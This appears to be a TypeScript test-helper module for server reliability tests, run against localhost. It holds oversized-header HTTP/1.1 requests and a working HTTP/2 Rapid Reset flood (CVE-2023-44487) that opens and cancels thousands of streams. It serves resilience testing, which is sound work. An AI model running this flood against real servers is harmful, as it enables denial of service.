// Abusive clients for the RELIABILITY B5 tests: a raw HTTP/1.1 request with headers chosen byte by
// byte (node:http and undici refuse to send some of them), a Rapid Reset flood on one node:http2
// connection, and a loop of well-behaved gRPC calls that counts what completed and what failed.
import http2 from 'node:http2'
import { connect } from 'node:net'
import { get, grpc, type Ledger } from './grpc-kit.js'

/** `n` short header lines "h<i in base 36>: v" (2500 of them are under node's 16 KiB). */
export function manyHeaders(n: number): string[] {
  return Array.from({ length: n }, (_, i) => `h${i.toString(36)}: v`)
}

/** One header line whose value is `bytes` long. */
export function bigHeader(bytes: number): string[] {
  return [`x-big: ${'a'.repeat(bytes)}`]
}

/**
 * GET / over a new connection with `Host` and `Connection: close` and then `lines`; resolves with
 * the status and body the server sent (what arrived before the server closed, if it cut the upload).
 */
export function rawGet(port: number, lines: string[]): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const socket = connect(port, '127.0.0.1')
    const chunks: Buffer[] = []
    const done = (): void => {
      const text = Buffer.concat(chunks).toString('latin1')
      const m = /^HTTP\/1\.1 (\d{3})/.exec(text)
      if (!m) return reject(new Error(`no HTTP response (got ${JSON.stringify(text.slice(0, 80))})`))
      const at = text.indexOf('\r\n\r\n')
      resolve({ status: Number(m[1]), body: at < 0 ? '' : text.slice(at + 4) })
    }
    socket.on('data', (c: Buffer) => chunks.push(c))
    // A server answering before the whole request is read may reset the upload: what came is the answer.
    socket.on('error', () => {})
    socket.on('close', done)
    socket.write(`GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n${lines.map((l) => l + '\r\n').join('')}\r\n`)
  })
}

export interface FloodResult {
  /** Streams opened and reset before the connection was closed (or `max`). */
  sent: number
  /** The GOAWAY's error code, when the server sent one. */
  goawayCode: number | undefined
  /** The session is closed (by the server, or after the GOAWAY). */
  closed: boolean
  /** The session's error code, if it ended with one. */
  errorCode: string | undefined
}

/**
 * Rapid Reset (CVE-2023-44487) on one plaintext HTTP/2 connection: up to `max` streams, each a
 * gRPC call's HEADERS immediately followed by RST_STREAM(CANCEL), yielding to the loop every 100.
 * Stops at `max` or when the server closes the connection; then waits for the close up to `waitMs`
 * (bounded: never more than `max` streams, and the caller's timeout for the rest).
 */
export async function rapidReset(port: number, path: string, max = 5000, waitMs = 5000): Promise<FloodResult> {
  const session = http2.connect(`http://127.0.0.1:${port}`)
  const result: FloodResult = { sent: 0, goawayCode: undefined, closed: false, errorCode: undefined }
  session.on('goaway', (code) => void (result.goawayCode ??= code))
  session.on('error', (err: NodeJS.ErrnoException) => void (result.errorCode ??= err.code))
  const closed = new Promise<void>((resolve) => session.once('close', () => resolve()))
  await new Promise<void>((resolve, reject) => {
    session.once('connect', () => resolve())
    session.once('error', reject)
  })
  const headers = { ':method': 'POST', ':path': path, 'content-type': 'application/grpc', te: 'trailers' }
  try {
    while (result.sent < max && !session.closed && !session.destroyed && result.goawayCode === undefined) {
      const stream = session.request(headers)
      stream.on('error', () => {})
      stream.close(http2.constants.NGHTTP2_CANCEL)
      result.sent++
      if (result.sent % 100 === 0) await new Promise((r) => setImmediate(r))
    }
  } catch (err) {
    // request() on a session the server just closed throws (ERR_HTTP2_INVALID_SESSION / GOAWAY).
    result.errorCode ??= (err as NodeJS.ErrnoException).code
  }
  let timer: NodeJS.Timeout | undefined
  await Promise.race([closed, new Promise<void>((r) => (timer = setTimeout(r, waitMs)))])
  clearTimeout(timer)
  result.closed = session.closed || session.destroyed
  session.destroy()
  return result
}

/**
 * `concurrency` loops of Get calls through `client` until stopped; resolves with how many answered
 * correctly and what failed (no timing recorded).
 */
export function grpcTraffic(client: Ledger, concurrency = 4): { stop(): Promise<{ ok: number; failed: string[] }> } {
  let running = true
  let ok = 0
  const failed: string[] = []
  const loop = async (w: number): Promise<void> => {
    for (let i = 0; running; i++) {
      const id = `w${w}-${i}`
      try {
        const res = await get(client, { id }, { deadline: Date.now() + 10_000 })
        if (res.id === id) ok++
        else failed.push(`${id}: answered ${res.id}`)
      } catch (err) {
        failed.push(`${id}: ${grpc.status[(err as grpc.ServiceError).code] ?? ''} ${(err as Error).message}`)
      }
    }
  }
  const loops = Array.from({ length: concurrency }, (_, w) => loop(w))
  return {
    async stop() {
      running = false
      await Promise.all(loops)
      return { ok, failed }
    },
  }
}
